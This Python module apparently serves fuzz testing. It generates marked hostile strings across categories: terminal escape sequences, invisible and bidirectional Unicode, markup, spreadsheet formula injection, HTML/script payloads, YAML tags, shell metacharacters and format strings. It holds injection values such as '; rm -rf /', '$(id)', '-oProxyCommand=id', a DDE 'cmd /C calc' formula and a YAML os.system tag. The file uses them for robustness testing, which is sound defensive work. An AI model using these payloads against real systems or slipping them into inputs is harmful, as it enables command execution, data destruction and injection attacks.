"""Strings that want to be obeyed: by a terminal, a spreadsheet, a browser, a parser or the eye. Each has a mark."""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass

MARK = re.compile(r"h\d{5}h")
"""Stands in each string once, to find it again in what comes out."""
_FRAMES: dict[str, tuple[str, ...]] = {
    "escape": (
        "x\x1b[31m{}\x1b[0m", "x\x1b[2J{}", "x\x1b]0;{}\x07", "x\x1b]8;;http://evil/\x1b\\{}\x1b]8;;\x1b\\", "x\x1bc{}",
        "x\x1b]52;c;ZXZpbA==\x07{}", "x\x1bP+q544e\x1b\\{}", "x\x1b[6n{}", "x\x1b[?1049h{}", "x\x1b_G{}\x1b\\",
        "x\x1b[1;1H{}", "x\x1b]1337;File=:{}\x07", "x\x1b[8m{}", "x\x1b%G{}", "x\x1b(0{}", "x\x1b[200~{}\x1b[201~",
        "x\x9b31m{}", "x\x9d0;{}\x9c", "x\x90q{}\x9c", "x\x84{}", "x\x85{}", "x\x8d{}", "x\x98{}\x9c", "x\x9e{}\x9c",
        "x\x07{}", "x\x08\x08\x08{}", "x\r{}", "x\n{}", "x\x0b{}", "x\x0c{}", "x\x00{}", "x\x7f{}", "x\x0e{}\x0f",
        "x\x1b\x1b[31m{}", "x\x1b[38;2;255;0;0m{}", "x\x18{}", "x\x1a{}", "x\t{}", "\x1b[31m{}", "\x9b31m{}", "\r{}",
        "x\n\x1b[A{}", "x\x1b]2;{}\x1b\\", "x\x1b]4;1;?\x07{}", "x\x1b[>c{}", "x\x1bZ{}", "x\x05{}", "x\x1b#8{}",
    ),
    "hidden": (
        "x\u202e{}\u202c", "x\u2066{}\u2069", "x\u2067{}\u2069", "x\u2068{}\u2069", "x\u202a{}", "x\u202b{}",
        "x\u202d{}", "x\u200e{}", "x\u200f{}", "x\u061c{}", "x\u200b{}", "x\u200c{}", "x\u200d{}", "x\u2060{}",
        "x\ufeff{}", "\ufeff{}", "x\u00ad{}", "x\u180e{}", "x\u2028{}", "x\u2029{}", "x\u206a{}", "x\U000e0041{}",
        "x\U000e0001{}", "x\u115f{}", "x\u3164{}", "x\uffa0{}", "x\u034f{}", "x\ufff9{}\ufffb", "x\U0001d173{}",
        "x\u2061{}", "x\u2064{}", "\u202e{}", "x\ufe0f{}", "x\U000e0100{}", "x\U0001bca0{}",
    ),
    "markup": (
        "[red]{}[/red]", "[link=http://evil]{}[/link]", "[bold]{}[/]", "[blink]{}[/blink]", "[/]{}",
        "[@click=a()]{}[/]",
        "[on red]{}[/]", "\\[red]{}", "[[red]]{}[[/red]]", "[#ff0000]{}[/]", "[link]{}", "[/red]{}", "[bold red]{}",
        ":smile:{}", ":warning: {}", "[not a style]{}[/not a style]", "[i]{}", "[conceal]{}[/conceal]",
        "[rgb(1,2,3)]{}",
        "[=x]{}", "[]{}", "[strike]{}[/strike]", "[reverse]{}[/reverse]", "[red {}",
    ),
    "formula": (
        "=cmd|'/C calc'!A0 {}", "=1+1&\"{}\"", "+1+1 {}", "-1+1 {}", "@SUM(1) {}", "=HYPERLINK(\"http://evil\",\"{}\")",
        "＝1+1 {}", "＋1+1 {}", "－1+1 {}", "＠SUM(1) {}", "\t=1+1 {}", "\r=1+1 {}", "\n=1+1 {}", " =1+1 {}",
        "\u3000=1+1 {}", "\u00a0=1+1 {}", "'=1+1 {}", "''=1+1 {}", "\"=1+1 {}", "\",=1+1 {}", "=\"\"{}",
        "\u200b=1+1 {}",
        "\ufeff=1+1 {}", "+{}", "-{}", "@{}", "={}", "=DDE(\"cmd\";\"/C calc\";\"{}\")",
        "=IMPORTXML(\"http://evil\",\"{}\")",
        "=WEBSERVICE(\"http://evil/{}\")", "\x1e=1+1 {}", "{}\n=1+1", "{}\r\n=1+1", "%0A=1+1 {}", "\u2028=1+1 {}",
        "\"\n=1+1,{}", "{}\"\r\n\"=1+1", " ＝1+1 {}", "\u202f@SUM(1) {}", "\u2003-1+1 {}",
    ),
    "script": (
        "<script>alert('{}')</script>", "<img src=x onerror=alert('{}')>", "<a href='javascript:alert(1)'>{}</a>",
        "[{}](javascript:alert(1))", "![{}](http://evil/x.png)", "<svg/onload=alert('{}')>", "</title><script>{}",
        "<!--{}-->", "]]>{}", "<iframe src='http://evil'>{}", "&lt;script&gt;{}", "<http://evil/{}>", "```{}```",
        "# {}", "| {} | x |", "[x]: http://evil/{}", "<style>*{{x:{}}}</style>", "<b>{}</b>", "**{}**",
        "http://evil/{}",
        "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "{{% {} %}}", "<?php {} ?>", "&#x3c;script&#x3e;{}", "<math>{}",
        "- [ ] {}",
    ),
    "yaml": (
        "!!python/object/apply:os.system [{}]", "&a {}", "*{}", "<<: {}", "{}: x", "- {}", "? {}", "| {}", "> {}",
        "%YAML 1.1 {}", "--- {}", "... {}", "# {}", "{{{}}}", "[{}", "'{}", '"{}', "`{}", "@{}", "{} #x", "{}: ", "!{}",
        "<<<<<<< {}", "=======\n{}", ">>>>>>> {}", "||||||| {}", "x\n<<<<<<< {}", "x\n>>>>>>> {}\n", "x\n---\n{}",
        "x\n- at: 2020-01-01\n  what: won\n{}", "{}\\", "{}\\n", "\\x1b[31m{}", "\\u202e{}", "{} ", " {}", "{}\n",
        "\n{}",
    ),
    "shell": (
        "$(id){}", "`id`{}", "; rm -rf / #{}", "| id {}", "&& id {}", "../../../{}", "/etc/passwd/{}", "--help{}",
        "--now={}", "-C{}", "-{}", "--{}", "~/{}", "C:\\{}", "CON.{}", "\\\\evil\\{}", "{}'; id; '", "{}\"; id; \"",
        "!{}", "*{}?", "$HOME{}", "${{IFS}}{}", "file://{}", "{}/2", "{}%00", "|{}", "<{}>", "$'\\e[31m'{}", "#!{}",
        "git@evil:{}", "ext::sh -c id {}", "-oProxyCommand=id{}", "{}\\\n", "~{}", "{}=x", "\u2010{}", "／etc／{}",
    ),
    "format": (
        "%s{}", "%n{}", "%(name)s{}", "{{0}}{}", "{{name}}{}", "{{customer}}{}", "{{0.__class__}}{}", "$name{}",
        "{{{}!r}}", "{{:>{}}}", "%d%d%d{}", "{{}}{}", "{{text}}{}", "{{{{{{{}", "}}}}}}{}", "%%{}", "\\g<0>{}", "\\1{}",
        "{{key}}{}", "%x%x{}", "{{{}[0]}}", "{{x.y}}{}", "%{}", "{{now}}{}",
    ),
    "odd": (
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301{}", "👩\u200d👩\u200d👧\u200d👦{}",
        "ﷺ{}", "İ{}", "ß{}", "ﬁ{}", "null {}", "NO{}", "0x1f{}", "1e999{}", "2026-03-02 {}",
        "𝒽{}", "ｈａｌｆ{}", "\u0665{}", "Ⅷ{}", "㏒{}", "नमस्ते{}",
        "สวัสดี{}", "שלום{}", "مرحبا{}", "ꙮ{}", "\uf8ff{}", "\U0010fffd{}", "\ufffd{}",
        "﷽{}", "‱{}", "🏴{}", "〈{}〉",
    ),
}  # fmt: skip
_HUGE = ("W" * 199, "名" * 150, "a " * 600, "\u0301" * 300, "[red]" * 100, "\x1b[31m" * 200, "=" * 400, "x" * 20_000)
_REST = ("", " plain", "客户", " 'q' \"Q\"", " 50%", "\u202e", "\x1b[7m", "[/]", "<b>", ";", "\t", " =1")
_HERE = "\ue000"
_RISKY = ("Cc", "Cf", "Cs", "Zl", "Zp")


@dataclass(frozen=True)
class Hostile:
    """One string: what kind it is, and the mark in it."""

    kind: str
    text: str
    mark: str

    @property
    def named(self) -> bool:
        """Whether a customer may be called so."""
        return len(self.text) <= 200 and not any(
            unicodedata.category(one) in ("Cc", "Cs", "Zl", "Zp") for one in self.text
        )

    @property
    def frame(self) -> str:
        """What stands before the mark."""
        return self.text.partition(self.mark)[0]


def strings(count: int, chance: random.Random) -> list[Hostile]:
    """So many of them, no two alike: every frame as it is, then huge ones, then frames with more behind and before."""
    found: dict[str, str] = {}
    for kind, frame in _frames(chance):
        if len(found) == count:
            break
        found.setdefault(frame, kind)
    return [_made(number, kind, frame) for number, (frame, kind) in enumerate(found.items())]


def _made(number: int, kind: str, frame: str) -> Hostile:
    mark = f"h{number:05}h"
    return Hostile(kind, frame.replace(_HERE, mark, 1).replace(_HERE, ""), mark)


def _frames(chance: random.Random) -> Iterator[tuple[str, str]]:
    plain = [(kind, frame.format(_HERE)) for kind, frames in _FRAMES.items() for frame in frames]
    chance.shuffle(plain)
    yield from plain
    yield from (("huge", _HERE + rest) for rest in _HUGE)
    while True:
        kind, frame = chance.choice(plain)
        yield kind, frame + chance.choice(_REST) + (chance.choice(plain)[1] if chance.random() < 0.3 else "")


def is_risky(character: str) -> bool:
    """Whether a terminal, a reader's eye or a parser could be led astray by it."""
    return unicodedata.category(character) in _RISKY


def quoted(text: str) -> str:
    """The text as a YAML scalar in double quotes, everything unusual as an escape."""
    made = (f"\\U{ord(one):08x}" if is_risky(one) or one in '"\\' or ord(one) > 0xFFFF else one for one in text)
    return f'"{"".join(made)}"'
